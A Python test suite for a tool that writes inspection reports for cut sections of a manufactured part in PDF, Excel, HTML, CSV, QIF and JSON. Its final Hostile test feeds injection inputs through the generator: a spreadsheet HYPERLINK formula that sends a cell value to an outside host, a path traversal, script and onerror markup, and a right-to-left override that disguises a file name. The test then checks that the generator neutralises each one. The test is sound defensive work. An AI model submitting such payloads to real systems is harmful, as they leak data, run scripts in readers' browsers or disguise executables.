#!/usr/bin/env python3
"""Reads the files of a report with programs that are not ours: poppler, openpyxl, Chromium, xmllint, csv, jsonschema.

usage: check_files.py MAKE_REPORT CASE      CASE: Pdf, Xlsx, Html, Csv, Qif, Json, Hostile
"""
import csv
import io
import json
import os
import pathlib
import re
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree
import zipfile

import jsonschema
import openpyxl

from browser import Browser

MAKE_REPORT = ""
ROOT = pathlib.Path(__file__).resolve().parents[2]
# The standard's schema may not be copied into the project: the variable names the folder of a copy.
SCHEMA = pathlib.Path(os.environ.get("CUTFACE_QIF_SCHEMA", "/nonexistent"))
QIF = "{http://qifstandards.org/xsd/qif3}"


def make(folder, text=""):
    run = subprocess.run([MAKE_REPORT, folder] + ([text] if text else []), capture_output=True, check=False)
    assert run.returncode == 0, run.stderr
    return json.loads(run.stdout)


def pdf_text(path, *options):
    return subprocess.run(["pdftotext", *options, path, "-"], capture_output=True, text=True,
                          check=True).stdout


class Files(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.temp = tempfile.TemporaryDirectory()
        cls.folder = pathlib.Path(cls.temp.name)
        cls.json = make(cls.temp.name)

    @classmethod
    def tearDownClass(cls):
        cls.temp.cleanup()


class Pdf(Files):
    def setUp(self):
        self.path = str(self.folder / "report.pdf")

    def test_text_can_be_searched_and_says_what_a_cover_must_say(self):
        text = " ".join(pdf_text(self.path, "-f", "1", "-l", "1").split())
        for wanted in ("LV-7504", "revision C", "lot 25-118", "does not conform", "not ready to sign",
                       "certificate", "SHA-256", "95 % intervals; covers: image only", "n = ",
                       "A section shows one plane of one destroyed sample", "never replace burst"):
            self.assertIn(wanted, text)

    def test_every_face_has_a_page_with_values_verdicts_and_findings(self):
        text = pdf_text(self.path, "-layout")
        for wanted in ("F1 serial B-07", "F4 serial B-07", "thin septum", "wash is cut off by the frame",
                       "a worn mandrel", "concession C-12, Q. Engineer", "F3 serial B-08, recut",
                       "edges too soft to measure", "the picture is not at hand"):
            self.assertIn(wanted, re.sub(r"\s+", " ", text))
        self.assertIn("2.5012", text)

    def test_who_signed_as_what_and_what_a_disposition_settled(self):
        text = re.sub(r"\s+", " ", pdf_text(self.path, "-layout"))
        for wanted in ("R. Alder, 2026-03-20 (F2 of 4 faces)", "Settled by a disposition: 1", "agreed with design",
                       "signed: measured", "no passphrase stands behind them",
                       "a signature (reviewed, R. Alder, 2026-03-21) does not count while something is open"):
            self.assertIn(wanted, text)

    def test_pages_are_numbered_and_the_number_is_true(self):
        info = subprocess.run(["pdfinfo", self.path], capture_output=True, text=True, check=True).stdout
        pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))
        found = re.findall(r"page (\d+) of (\d+)", pdf_text(self.path))
        self.assertEqual([(str(i + 1), str(pages)) for i in range(pages)], found)
        self.assertRegex(info, r"Title:\s+Section report LV-7504 rev. C")
        self.assertRegex(info, r"Creator:\s+cutface 0.1.0")
        self.assertRegex(info, r"Page size:.*A4")
        self.assertRegex(info, r"JavaScript:\s+no")

    def test_there_are_bookmarks_to_every_part(self):
        names = subprocess.run(["pdfinfo", "-dests", self.path], capture_output=True, text=True, check=True)
        self.assertEqual(0, names.returncode)
        data = pathlib.Path(self.path).read_bytes()
        titles = re.findall(rb"/Title \(([^)]*)\)", data)
        for wanted in (b"Cover", b"Summary", b"Faces", b"Open before signing", b"Appendix: formulas",
                       b"What these sections can and cannot show"):
            self.assertIn(wanted, titles)
        self.assertTrue(any(t.startswith(b"F4 serial B-07") for t in titles), titles)

    def test_fonts_are_in_the_file_and_the_photo_is_a_jpeg(self):
        fonts = subprocess.run(["pdffonts", self.path], capture_output=True, text=True, check=True).stdout
        for line in fonts.splitlines()[2:]:
            self.assertRegex(line, r"yes yes yes|yes\s+yes\s+yes")
        images = subprocess.run(["pdfimages", "-list", self.path], capture_output=True, text=True,
                                check=True).stdout.splitlines()[2:]
        self.assertEqual(4, len(images))
        for line in images:
            self.assertIn("jpeg", line)

    def test_what_sections_cannot_show_and_formulas_with_sources_are_there(self):
        text = re.sub(r"\s+", " ", pdf_text(self.path))
        for wanted in ("What they cannot show", "Clopper and Pearson", "exact binomial", "Formulas",
                       "Uncertainty budgets", "Files behind this report", "Shortest distance between the bores"):
            self.assertIn(wanted, text)


class Xlsx(Files):
    def setUp(self):
        self.book = openpyxl.load_workbook(self.folder / "report.xlsx")

    def head(self, sheet):
        for row in sheet.iter_rows():
            values = [cell.value for cell in row]
            if "No." in values:
                return row[0].row, values
        raise AssertionError("no line of titles")

    def test_the_first_article_sheet_has_its_columns_and_a_column_a_face(self):
        sheet = self.book["First article"]
        at, titles = self.head(sheet)
        for wanted in ("Plane", "Characteristic", "Requirement", "Min", "Max", "Unit", "Method", "Gauge",
                       "Verdict", "Remark", "F1 serial B-07", "F3 serial B-08, recut"):
            self.assertIn(wanted, titles)
        first = {t: c.value for t, c in zip(titles, sheet[at + 1])}
        self.assertEqual("1.1", first["No."])
        self.assertEqual(2.5012, first["F1 serial B-07"])
        self.assertEqual(2.45, first["Min"])
        self.assertEqual("bench2-5x-2026-03", first["Gauge"])
        self.assertEqual(sheet.freeze_panes, f"D{at + 1}")
        self.assertIsNotNone(sheet.auto_filter.ref)

    def test_values_are_numbers_with_a_format_and_texts_are_texts(self):
        sheet = self.book["Values"]
        at, titles = self.head(sheet)
        column = titles.index("Actual")
        cells = [row[column] for row in sheet.iter_rows(min_row=at + 1)]
        numbers = [c for c in cells if c.value is not None]
        self.assertGreater(len(numbers), 20)
        for cell in numbers:
            self.assertEqual("n", cell.data_type)
            self.assertRegex(cell.number_format, r"^0(\.0+)?$")
        empty = [row for row in sheet.iter_rows(min_row=at + 1) if row[column].value is None]
        self.assertTrue(empty)
        for row in empty:
            self.assertIn(row[titles.index("Verdict")].value, ("not measured", "elsewhere"))

    def test_statistics_count_parts_and_name_what_is_nested(self):
        sheet = self.book["Statistics"]
        at, titles = self.head(sheet)
        rows = [dict(zip(titles, [c.value for c in row])) for row in sheet.iter_rows(min_row=at + 1)]
        wall = next(r for r in rows if r["No."] == "4.1")
        self.assertEqual((2, 3), (wall["n parts"], wall["faces"]))
        self.assertLessEqual(wall["Least"], wall["Mean"])
        self.assertLessEqual(wall["Mean"], wall["Greatest"])

    def test_no_cell_is_a_formula_and_no_link_leaves_the_book(self):
        with zipfile.ZipFile(self.folder / "report.xlsx") as book:
            for name in book.namelist():
                self.assertNotIn(b"<f>", book.read(name), name)
                self.assertNotIn(b"hyperlink", book.read(name), name)

    def test_other_sheets_are_there(self):
        self.assertEqual(["First article", "Statistics", "Values", "Findings", "Open", "Decisions",
                          "Uncertainty", "About"], self.book.sheetnames)
        self.assertGreater(self.book["Open"].max_row, 3)
        # openpyxl took part in none of it: the file is plain to it.
        self.assertEqual("Section report LV-7504 rev. C", self.book.properties.title)


    def test_decisions_name_dispositions_and_signatures(self):
        rows = [[c.value for c in row] for row in self.book["Decisions"].iter_rows(min_row=2)]
        self.assertEqual(["disposition", "signature"], [r[0] for r in rows])
        self.assertIn("concession C-12, Q. Engineer", rows[0][3])
        self.assertEqual("measured: R. Alder, 2026-03-20", rows[1][3])


class Json(Files):
    def test_what_a_script_gets_is_what_the_schema_says(self):
        schema = json.loads((ROOT / "src/data/report.schema.json").read_text(encoding="utf-8"))
        jsonschema.Draft7Validator.check_schema(schema)
        jsonschema.Draft7Validator(schema).validate(self.json)
        self.assertTrue(self.json["settled"] and self.json["signatures"] and self.json["open"])
        spoilt = dict(self.json, verdict="fine")
        self.assertFalse(jsonschema.Draft7Validator(schema).is_valid(spoilt))


class Csv(Files):
    def test_one_line_a_value_with_the_columns_named_first(self):
        data = (self.folder / "report.csv").read_bytes()
        self.assertTrue(data.endswith(b"\r\n"))
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        self.assertEqual(4 * 9, len(rows))
        for row in rows:
            self.assertNotIn(None, row)
            self.assertNotIn(None, row.values())
        first = rows[0]
        self.assertEqual(("1.1", "1", "B-07", "shaft-mid"),
                         (first["number"], first["drawing_number"], first["serial"], first["plane"]))
        self.assertEqual(2.5012, float(first["actual"]))
        unmeasured = next(r for r in rows if r["verdict"] == "not measured")
        self.assertEqual("", unmeasured["actual"])
        self.assertEqual("wash is cut off by the frame", unmeasured["reason"])
        self.assertEqual({"yes", "no"}, {r["settled"] for r in rows})
        self.assertEqual({"", "measured: R. Alder, 2026-03-20"}, {r["signatures"] for r in rows})


class Qif(Files):
    def setUp(self):
        self.root = xml.etree.ElementTree.parse(self.folder / "report.qif").getroot()

    def test_it_is_valid_against_the_standards_schema(self):
        if not (SCHEMA / "QIFDocument.xsd").exists():
            self.skipTest("the standard's schema is not at hand (CUTFACE_QIF_SCHEMA)")
        run = subprocess.run(["xmllint", "--nonet", "--noout", "--schema", SCHEMA / "QIFDocument.xsd",
                              self.folder / "report.qif"], capture_output=True, text=True, check=False)
        self.assertEqual(0, run.returncode, run.stderr)
        self.assertIn("validates", run.stderr)

    def test_ids_are_unique_and_every_reference_has_its_target(self):
        ids = [e.get("id") for e in self.root.iter() if e.get("id")]
        self.assertEqual(len(ids), len(set(ids)))
        self.assertEqual(max(map(int, ids)), int(self.root.get("idMax")))
        references = [e.text for e in self.root.iter()
                      if e.tag.endswith("Id") and e.tag not in (QIF + "QPId",)]
        self.assertGreater(len(references), 50)
        self.assertEqual(set(), set(references) - set(ids))
        for e in self.root.iter():
            if e.get("n"):
                self.assertEqual(int(e.get("n")), len(list(e)), e.tag)

    def test_values_and_verdicts_arrive(self):
        sets = self.root.findall(f".//{QIF}MeasurementResults")
        self.assertEqual(4, len(sets))
        measured = sets[0].findall(f".//{QIF}UserDefinedLinearCharacteristicMeasurement")
        value = measured[0].find(f"{QIF}Value")
        self.assertEqual("2.5012", value.text)
        words = {e.text for e in self.root.iter(f"{QIF}CharacteristicStatusEnum")}
        self.assertEqual({"PASS", "FAIL", "INDETERMINATE", "NOT_ANALYZED"}, words)
        serials = [e.text for e in self.root.iter(f"{QIF}SerialNumber")]
        self.assertEqual(["B-07", "B-08"], sorted(serials))


class Html(Files):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.browser = Browser()
        cls.url = "file://" + str(cls.folder / "report.html")

    @classmethod
    def tearDownClass(cls):
        cls.browser.close()
        super().tearDownClass()

    def setUp(self):
        self.browser.open(self.url)

    def tearDown(self):
        self.assertEqual([], self.browser.complaints)

    def column(self, table, column):
        return self.browser.run(
            f"Array.from(document.querySelectorAll('#{table} tbody tr'))"
            f".filter(r => !r.hidden).map(r => r.cells[{column}].textContent)")

    def click(self, selector):
        self.browser.run(f"document.querySelector('{selector}').click()")

    def test_nothing_is_fetched_from_anywhere(self):
        outside = [r for r in self.browser.requests if not r.startswith(("data:", "file:"))]
        self.assertEqual([], outside)
        text = (self.folder / "report.html").read_text(encoding="utf-8")
        self.assertEqual([], re.findall(r"""(?:src|href)=["'](?!data:|#)""", text))

    def test_a_table_sorts_by_number_and_turns_round(self):
        before = self.column("values-table", 5)
        self.click("#values-table th:nth-child(6) button")
        up = self.column("values-table", 5)
        self.assertNotEqual(before, up)
        numbers = [float(t) for t in up if t]
        self.assertEqual(sorted(numbers), numbers)
        self.assertGreater(len(numbers), 20)
        self.assertEqual([""] * (len(up) - len(numbers)), up[len(numbers):])
        self.assertEqual("ascending", self.browser.run(
            "document.querySelector('#values-table th:nth-child(6)').getAttribute('aria-sort')"))
        self.click("#values-table th:nth-child(6) button")
        down = [float(t) for t in self.column("values-table", 5) if t]
        self.assertEqual(sorted(numbers, reverse=True), down)
        self.click("#rows-table th:nth-child(1) button")
        self.assertEqual(self.column("rows-table", 0), [r["no"] for r in self.json["rows"]])

    def test_values_are_found_by_word_and_verdict(self):
        self.browser.run("const b = document.getElementById('find'); b.value = 'septum';"
                         "b.dispatchEvent(new Event('input'))")
        shown = self.column("values-table", 1)
        self.assertTrue(shown)
        self.assertTrue(all("septum" in t for t in shown), shown)
        self.browser.run("const s = document.getElementById('find-verdict');"
                         "s.value = 'does not conform'; s.dispatchEvent(new Event('change'))")
        self.assertEqual(1, len(self.column("values-table", 1)))

    def test_a_thumbnail_opens_the_face_and_marks_switch(self):
        self.assertEqual(4, self.browser.run("document.querySelectorAll('.faces button').length"))
        self.click(".faces button")
        self.assertTrue(self.browser.run("document.getElementById('face').open"))
        self.assertEqual(1, self.browser.run("document.querySelectorAll('#stage svg').length"))
        self.assertTrue(self.browser.run(
            "document.querySelector('#stage image').getAttribute('xlink:href')"
            ".startsWith('data:image/jpeg;base64,')"))
        shown = "getComputedStyle(document.querySelector('#stage g.contour[data-ink={}]')).display"
        for ink in ("lumen", "outline", "ring", "void"):
            self.assertNotEqual("none", self.browser.run(shown.format(ink)), ink)
            self.click(f".switches input[value={ink}]")
            self.assertEqual("none", self.browser.run(shown.format(ink)), ink)
            self.click(f".switches input[value={ink}]")
            self.assertNotEqual("none", self.browser.run(shown.format(ink)), ink)
        self.click(".switches input[value=photo]")
        self.assertEqual("none", self.browser.run(
            "getComputedStyle(document.querySelector('#stage image')).display"))
        self.click(".switches input[value=photo]")

    def test_everything_works_by_keyboard(self):
        self.browser.run("document.querySelector('.faces button').focus()")
        self.browser.key("Enter", 13)
        self.assertTrue(self.browser.run("document.getElementById('face').open"))
        first = self.browser.run("document.getElementById('face-title').textContent")
        self.browser.key("ArrowRight", 39)
        self.assertNotEqual(first, self.browser.run("document.getElementById('face-title').textContent"))
        self.browser.key("Escape", 27)
        self.assertFalse(self.browser.run("document.getElementById('face').open"))
        self.assertEqual("BUTTON", self.browser.run("document.activeElement.tagName"))

    def test_signatures_and_dispositions_are_shown(self):
        about = self.browser.run("document.getElementById('about').textContent")
        self.assertIn("Signed: measured", about)
        self.assertIn("R. Alder, 2026-03-20 (F2 of 4 faces)", about)
        settled = self.browser.run("document.getElementById('settled').textContent")
        self.assertIn("concession C-12, Q. Engineer", settled)
        self.assertEqual("not ready to sign: 6 open",
                         self.browser.run("document.getElementById('ready').textContent"))

    def test_headings_labels_and_language_are_there_for_readers_aloud(self):
        self.assertEqual("en", self.browser.run("document.documentElement.lang"))
        self.assertEqual(1, self.browser.run("document.querySelectorAll('h1').length"))
        self.assertEqual(0, self.browser.run(
            "Array.from(document.querySelectorAll('input, select')).filter(e => !e.labels.length).length"))


HOSTILE = {
    "a formula, a path, 255 bytes": '=HYPERLINK("http://x.invalid/?"&A1,"ok") ../../x ' + "\u00e4" * 103,
    "markup and line ends":
        "<script>alert(1)</script><img src=x onerror=alert(2)>\"'--></template></style>\nb\r\n\"c\";d,\te",
    "marks of direction and bytes that are no letters":
        "\u202egnp.exe\u2066\u200f" + b"\xff\xfe\x01\x1b[31m\x7f".decode("utf-8", "surrogateescape"),
}
assert len(next(iter(HOSTILE.values())).encode()) == 255


class Hostile(unittest.TestCase):
    """Every text that a person may type, in every file."""

    @classmethod
    def setUpClass(cls):
        cls.browser = Browser()

    @classmethod
    def tearDownClass(cls):
        cls.browser.close()

    def look(self, folder, text):
        data = (folder / "report.csv").read_bytes().decode("utf-8")
        rows = list(csv.reader(io.StringIO(data, newline="")))
        self.assertEqual({len(rows[0])}, {len(r) for r in rows})
        self.assertEqual(4 * 9 + 1, len(rows))
        for row in rows[1:]:
            for field in row:
                self.assertNotRegex(field, r"^[=+@\t\r]")
                self.assertNotRegex(field, r"[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
                if field.startswith("-"):
                    float(field)
        book = openpyxl.load_workbook(folder / "report.xlsx")
        for sheet in book.worksheets:
            for line in sheet.iter_rows():
                for cell in line:
                    self.assertNotEqual("f", cell.data_type, (sheet.title, cell.coordinate))
                    self.assertIsNone(cell.hyperlink)
        xml.etree.ElementTree.parse(folder / "report.qif")
        if (SCHEMA / "QIFDocument.xsd").exists():
            run = subprocess.run(["xmllint", "--nonet", "--noout", "--schema", SCHEMA / "QIFDocument.xsd",
                                  folder / "report.qif"], capture_output=True, text=True, check=False)
            self.assertEqual(0, run.returncode, run.stderr)
        words = pdf_text(str(folder / "report.pdf"))
        self.assertIn("Files behind this report", words)
        self.assertNotIn("\u00e4-", words)  # no hyphen of our own in a long name
        self.browser.open("file://" + str(folder / "report.html"))
        self.browser.run("document.querySelectorAll('.faces button')[0].click()")
        self.assertEqual([], self.browser.complaints)
        self.assertEqual([], [r for r in self.browser.requests if not r.startswith(("data:", "file:"))])
        self.assertEqual(4, self.browser.run("document.querySelectorAll('.faces button').length"))
        self.assertEqual(1, self.browser.run("document.querySelectorAll('script').length"))
        self.assertEqual(0, self.browser.run("document.querySelectorAll('[onerror], iframe, object').length"))
        if "<" not in text and "\n" not in text and text.isprintable():
            self.assertIn(text, self.browser.run("document.body.textContent"))

    def test_no_text_harms_a_file(self):
        for name, text in HOSTILE.items():
            with self.subTest(name), tempfile.TemporaryDirectory() as folder:
                make(folder, text)
                files = sorted(p.name for p in pathlib.Path(folder).iterdir())
                self.assertEqual(["photo.png", "report.csv", "report.html", "report.pdf", "report.qif",
                                  "report.xlsx"], files)
                self.look(pathlib.Path(folder), text)


if __name__ == "__main__":
    MAKE_REPORT = sys.argv[1]
    unittest.main(argv=[sys.argv[0], sys.argv[2]])
